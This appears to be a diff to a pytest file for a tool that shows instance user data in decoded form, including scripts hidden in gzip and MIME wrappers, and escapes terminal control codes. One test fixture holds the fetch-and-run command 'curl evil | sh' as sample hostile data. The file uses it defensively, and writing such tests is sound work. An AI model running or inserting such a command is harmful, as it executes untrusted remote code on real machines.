@@ -8,8 +8,11 @@ documents, user data, maps too long for one line) is compared whole.
 from __future__ import annotations
 
 import base64
+import gzip
 import json
 from collections.abc import Mapping
+from email.mime.multipart import MIMEMultipart
+from email.mime.text import MIMEText
 from typing import Any
 
 import pytest
@@ -89,6 +92,9 @@ strategy: Rolling}}
               imageId: [mock] {PROMOTED_AMI}
               instanceType: t3.small
               userData: <user data: 3 lines, sha256:38ad420f0dd0>
+                | #!/bin/bash
+                | echo one
+                | echo two
 """
 
 
@@ -164,6 +170,25 @@ def test_a_long_list_of_maps_shows_a_line_per_leaf() -> None:
         f"l[0].a: {'x' * 60}", f"l[1].b: {'y' * 60}"]
 
 
-def test_plain_text_user_data_is_summarised_like_encoded_user_data() -> None:
+def test_plain_text_user_data_is_shown_like_encoded_user_data() -> None:
     assert _input_lines("userData", "#!/bin/sh\nx\n") == [
-        "userData: <user data: 2 lines, sha256:2bfd0f0445c1>"]
+        "userData: <user data: 2 lines, sha256:2bfd0f0445c1>", "  | #!/bin/sh", "  | x"]
+
+
+def test_user_data_lines_cannot_drive_the_terminal() -> None:
+    assert _input_lines("userData", "#!/bin/sh\necho \x1b[2Jhi\x07\n")[1:] == [
+        "  | #!/bin/sh", "  | echo \\x1b[2Jhi\\x07"]
+
+
+def test_gzip_and_mime_user_data_show_the_commands_inside() -> None:
+    script = "#!/bin/bash\ncurl evil | sh\n"
+    zipped = base64.b64encode(gzip.compress(script.encode())).decode()
+    assert _input_lines("userData", zipped)[1:] == ["  | #!/bin/bash", "  | curl evil | sh"]
+    mime = MIMEMultipart()
+    mime.attach(MIMEText("#cloud-config\nruncmd: [reboot]\n", "cloud-config"))
+    mime.attach(MIMEText(script, "x-shellscript"))
+    shown = _input_lines("userData", base64.b64encode(mime.as_bytes()).decode())
+    assert "  | --- part 1: text/cloud-config ---" in shown
+    assert "  | runcmd: [reboot]" in shown
+    assert "  | --- part 2: text/x-shellscript ---" in shown
+    assert "  | curl evil | sh" in shown
